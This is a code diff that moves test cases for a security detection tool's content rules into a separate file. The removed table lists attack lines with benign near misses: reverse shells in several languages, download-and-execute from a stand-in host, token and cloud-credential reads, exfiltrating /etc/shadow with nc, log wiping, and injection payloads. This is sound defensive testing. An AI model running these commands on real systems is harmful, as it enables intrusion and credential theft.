@@ -15,61 +15,11 @@ import type { ArtifactId } from '../../../src/core/schema/artifacts.js';
 import { commandHistory, suspiciousPods, type SuspiciousPodRow } from '../../../src/core/schema/tables.js';
 import { deriveLogTable } from '../../../src/core/derive/index.js';
 import { collectAndDerive } from '../../support/derived.js';
+import { CONTENT_CASES } from './contentCases.js';
 
 const ids = (source: ContentSource, text: string) => contentHits(source, text).map((h) => h.rule.id).sort();
 
-// [rule, source, fires, near miss]
-const CASES: [keyof typeof CONTENT_RULES, ContentSource, string, string][] = [
-  ['downloadExecute', 'history', 'curl -sL http://203.0.113.7/x.sh -o /tmp/x.sh', 'curl -sL https://example.com/data.json -o ./data.json'],
-  ['downloadExecute', 'history', 'chmod +x /tmp/x.sh && /tmp/x.sh', 'chmod +x ./build.sh'],
-  ['downloadExecute', 'history', 'wget -qO- http://evil.example/i.sh | sh', 'wget -qO- http://example.com/index.html | grep title'],
-  ['downloadExecute', 'history', 'chmod 755 /dev/shm/.k', 'chmod 644 /tmp/notes.txt'],
-  ['saToken', 'history', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token', 'cat /var/run/secrets/app/config.yaml'],
-  ['apiServer', 'history', 'curl -k https://kubernetes.default.svc/api/v1/namespaces -H "Authorization: Bearer $TOKEN"', 'curl http://web.prod-web.svc/healthz'],
-  ['apiServer', 'history', '/usr/local/bin/kubectl get secrets -A', 'vi kubectl.yaml'],
-  ['cloudCredentials', 'history', 'cat /host/etc/kubernetes/azure.json', 'cat /etc/kubernetes/manifests/README'],
-  ['imds', 'history', 'curl -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token', 'curl http://169.254.1.1/'],
-  ['hostBreakout', 'history', 'chroot /host', 'chroot /srv/build-root'],
-  ['hostBreakout', 'history', 'crictl ps', 'echo crictl-ps is documented'],
-  ['nsenter', 'history', 'nsenter -t 1 -m -u -i -n -p -- bash', 'nsenter --help'],
-  ['miner', 'history', './xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 4A...', 'grep miner /var/log/app.log'],
-  ['miner', 'history', '/tmp/kinsing &', 'ls /tmp'],
-  ['miner', 'log', ' * POOL #1      stratum+tcp://pool.supportxmr.com:3333 algo auto', 'connected to redis at 10.0.0.5:5555'],
-  ['rootOutput', 'log', 'uid=0(root) gid=0(root) groups=0(root)', 'uid=1000(app) gid=1000(app) groups=1000(app)'],
-  ['logDownload', 'log', 'wget http://203.0.113.7/kinsing -O /tmp/kinsing', '10.244.0.1 - - "GET /index.html HTTP/1.1" 200 612 "-" "curl/8.5.0"'],
-  ['deserialization', 'log', '\tat org.apache.commons.collections.functors.InvokerTransformer.transform(InvokerTransformer.java:125)', '\tat java.base/java.util.HashMap.hash(HashMap.java:338)'],
-  ['deserialization', 'log', 'GET /?q=${jndi:ldap://203.0.113.7/a} 200', 'GET /?q=${user.name} 200'],
-  ['reverseShell', 'history', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', 'echo ok > /dev/null 2>&1'],
-  ['reverseShell', 'history', 'nc -e /bin/sh 203.0.113.7 4444', 'nc -zv db.prod 5432'],
-  ['reverseShell', 'history', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f', 'mkfifo /tmp/build.pipe'],
-  ['reverseShell', 'history', 'socat tcp-connect:203.0.113.7:9001 exec:/bin/sh,pty,stderr,setsid', 'socat - TCP:db.prod:5432'],
-  ['reverseShell', 'history', `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'`, 'python3 -c "import socket; print(socket.gethostname())"'],
-  ['reverseShell', 'history', `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("203.0.113.7")));open(STDIN,">&S");exec("/bin/sh -i");'`, `perl -e 'print "hello\n"'`],
-  ['reverseShell', 'history', `php -r '$s=fsockopen("203.0.113.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`, `php -r 'echo phpversion();'`],
-  ['reverseShell', 'history', `ruby -rsocket -e'f=TCPSocket.open("203.0.113.7",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`, `ruby -e 'puts RUBY_VERSION'`],
-  ['reverseShell', 'log', 'GET /cgi-bin/x?c=bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', 'GET /dev/tools HTTP/1.1'],
-  ['bindShell', 'history', 'nc -lvnp 4444 -e /bin/sh', 'nc -l 8080 > upload.bin'],
-  ['bindShell', 'history', 'socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash', 'socat TCP-LISTEN:8080,fork TCP:backend:80'],
-  ['rawIpDownload', 'history', 'curl -s http://203.0.113.7:8000/a.sh -o a.sh', 'curl -s http://10.0.0.4:8000/a.sh -o a.sh'],
-  ['c2Beacon', 'history', 'nc 203.0.113.7 4444 < /etc/shadow', 'nc 203.0.113.7 443 < /dev/null'],
-  ['c2Beacon', 'log', '2026/11/27 02:10:00 connecting to 203.0.113.7:4444 (attempt 3)', 'connected to redis at 10.0.0.5:6379'],
-  ['c2Beacon', 'log', 'beacon sent to 198.51.100.23:8088 ok', 'connected to 52.1.2.3:5432 (postgres)'],
-  ['coveringTracks', 'history', 'history -c', 'history | tail -20'],
-  ['coveringTracks', 'history', 'unset HISTFILE', 'echo $HISTFILE'],
-  ['coveringTracks', 'history', 'export HISTFILE=/dev/null', 'export HISTSIZE=5000'],
-  ['coveringTracks', 'history', 'rm -f ~/.bash_history', 'cat ~/.bash_history'],
-  ['coveringTracks', 'history', 'rm -rf /var/log/*', 'ls -la /var/log'],
-  ['coveringTracks', 'history', 'kill -9 $(pgrep fluent-bit)', 'kill -9 4242'],
-  ['coveringTracks', 'history', 'kubectl delete events --all -n prod', 'kubectl get events -n prod'],
-  ['scanner', 'log', '10.0.0.1 - - "GET /index.php?id=1 HTTP/1.1" 200 1 "-" "sqlmap/1.7.2#stable (https://sqlmap.org)"', '10.0.0.1 - - "GET /index.php?id=1 HTTP/1.1" 200 1 "-" "Mozilla/5.0 Chrome/120.0"'],
-  ['scanner', 'log', '"GET / HTTP/1.1" 404 0 "-" "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"', 'loaded 3 nuclear plant models'],
-  ['scanner', 'log', 'User-Agent: Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))', 'user agent: kube-probe/1.30'],
-  ['scanner', 'log', '"GET / HTTP/1.1" 400 0 "-" "Mozilla/5.0 zgrab/0.x"', '"GET / HTTP/1.1" 200 0 "-" "Go-http-client/1.1"'],
-  ['injection', 'log', '1.2.3.4 - - "GET /cgi-bin/../../../../etc/passwd HTTP/1.1" 400 0', 'loading ../config/app.yaml'],
-  ['injection', 'log', '"GET /shell.php?cmd=id HTTP/1.1" 200 41', '"GET /search?cmd=refresh HTTP/1.1" 200 41'],
-  ['injection', 'log', '"GET /ping?host=8.8.8.8;id HTTP/1.1" 200 41', '"GET /ping?host=8.8.8.8 HTTP/1.1" 200 41'],
-  ['injection', 'log', '"GET /item?id=1%20UNION%20SELECT%20password%20FROM%20users HTTP/1.1" 200', 'the union select committee met'],
-];
+const CASES = CONTENT_CASES;
 
 for (const [rule, source, fires, nearMiss] of CASES) {
   const id = CONTENT_RULES[rule].id;
